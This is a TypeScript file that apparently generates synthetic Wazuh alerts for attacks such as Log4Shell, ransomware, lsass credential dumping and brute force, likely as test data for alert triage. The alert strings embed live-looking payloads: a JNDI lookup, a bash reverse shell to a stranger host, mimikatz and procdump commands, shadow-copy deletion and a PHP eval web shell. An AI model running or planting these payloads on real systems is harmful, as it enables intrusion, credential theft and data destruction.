import { wazuh } from "../alerts.js";
import type { Template } from "../template.js";

/** What Wazuh sees of machines that are attacked. Its rules' ids, levels and techniques are those of its own rule set. */
export const HOST_ATTACKS: readonly Template[] = [
  {
    name: "log4shell-answered",
    story: "A look-up string was logged by a service that answered it: 200, then a connection out.",
    truth: "attack",
    severity: "HIGH",
    source: "/wazuh",
    alert: (v) =>
      wazuh(
        v,
        v.one([5, 6, 7]),
        ["31101", "Web server log with an unusual agent.", ["web", "accesslog"]],
        `${v.stranger} - - "GET /search?q=${v.number(1, 99)} HTTP/1.1" 200 512 "-" "\${jndi:ldap://${v.stranger}:1389/a}"`,
        { data: { srcip: v.stranger } },
      ),
  },
  {
    name: "reverse-shell-audit",
    story: "An interactive shell is sent to a stranger's machine.",
    truth: "attack",
    severity: "CRITICAL",
    source: "/wazuh",
    alert: (v) =>
      wazuh(
        v,
        v.one([3, 5, 7]),
        ["80792", "Audit: Command.", ["audit", "audit_command"]],
        `type=EXECVE msg=audit: argc=3 a0="bash" a1="-c" a2="bash -i >& /dev/tcp/${v.stranger}/${v.number(4000, 9999)} 0>&1" user=${v.user}`,
        { mitre: ["T1059.004"] },
      ),
  },
  {
    name: "ransom-note-added",
    story: "Files were encrypted; the note that asks for money appears in every folder.",
    truth: "attack",
    severity: "CRITICAL",
    source: "/wazuh",
    alert: (v) =>
      wazuh(
        v,
        7,
        ["554", "File added to the system.", ["ossec", "syscheck"]],
        `File '/srv/share/${v.user}/${v.one(["HOW_TO_DECRYPT.txt", "RECOVER-FILES.html", "README_DECRYPT.txt"])}' added: ransom note written`,
        { mitre: ["T1486"] },
      ),
  },
  {
    name: "mass-rename",
    story:
      "Hundreds of files get an unknown ending within a minute; the sensor names the technique.",
    truth: "attack",
    severity: "HIGH",
    source: "/wazuh",
    alert: (v) =>
      wazuh(
        v,
        v.one([7, 8, 10]),
        ["100210", "Many files renamed within a minute.", ["syscheck", "local"]],
        `${v.number(300, 900)} files below /srv/share/${v.user} renamed to *.${v.one(["lckd", "qx7", "enc"])}`,
        { mitre: ["T1486"] },
      ),
  },
  {
    name: "lsass-dumped",
    story: "The memory with the passwords of Windows is written to a file.",
    truth: "attack",
    severity: "CRITICAL",
    source: "/wazuh",
    alert: (v) =>
      wazuh(
        v,
        v.one([6, 10]),
        ["92052", "Windows command prompt started by an abnormal process.", ["windows", "sysmon"]],
        `CommandLine: ${v.one(["procdump64.exe -accepteula -ma lsass.exe C:\\\\t.dmp", "mimikatz.exe privilege::debug sekurlsa::logonpasswords"])} User: ${v.user}`,
        { mitre: ["T1003.001"] },
      ),
  },
  {
    name: "shadow-copies-deleted",
    story: "The step before files are encrypted: what could restore them is deleted.",
    truth: "attack",
    severity: "CRITICAL",
    source: "/wazuh",
    alert: (v) =>
      wazuh(
        v,
        v.one([5, 7, 9]),
        ["92032", "Suspicious Windows cmd shell execution.", ["windows", "sysmon"]],
        `CommandLine: vssadmin.exe delete shadows /all /quiet User: ${v.user}`,
        { mitre: ["T1490"] },
      ),
  },
  {
    name: "web-shell-uploaded",
    story: "A script that runs what it is sent lies in the folder of uploads.",
    truth: "attack",
    severity: "HIGH",
    source: "/wazuh",
    alert: (v) =>
      wazuh(
        v,
        7,
        ["554", "File added to the system.", ["ossec", "syscheck"]],
        `File '/var/www/uploads/img${v.number(1, 99)}.php' added; content: <?php @eval(base64_decode($_POST['c'])); ?>`,
      ),
  },
  {
    name: "brute-force-succeeded",
    story: "After many failures the same stranger is let in.",
    truth: "attack",
    severity: "HIGH",
    source: "/wazuh",
    alert: (v) =>
      wazuh(
        v,
        12,
        [
          "40112",
          "Multiple authentication failures followed by a success.",
          ["syslog", "attacks", "authentication_success"],
        ],
        `sshd[${v.number(100, 9999)}]: Accepted password for ${v.user} from ${v.stranger} port 50122`,
        { mitre: ["T1078", "T1110"], data: { srcip: v.stranger, dstuser: v.user } },
      ),
  },
  {
    name: "malicious-app",
    story: "An app that logs keys is on a phone.",
    truth: "attack",
    severity: "CRITICAL",
    source: "/wazuh",
    alert: (v) =>
      wazuh(
        v,
        15,
        ["100006", "Malicious app installed: com.example.keylogger", ["android", "package"]],
        `${v.host}: package added: com.example.keylogger`,
        { mitre: ["T1475"], data: { package_name: "com.example.keylogger" } },
      ),
  },
];
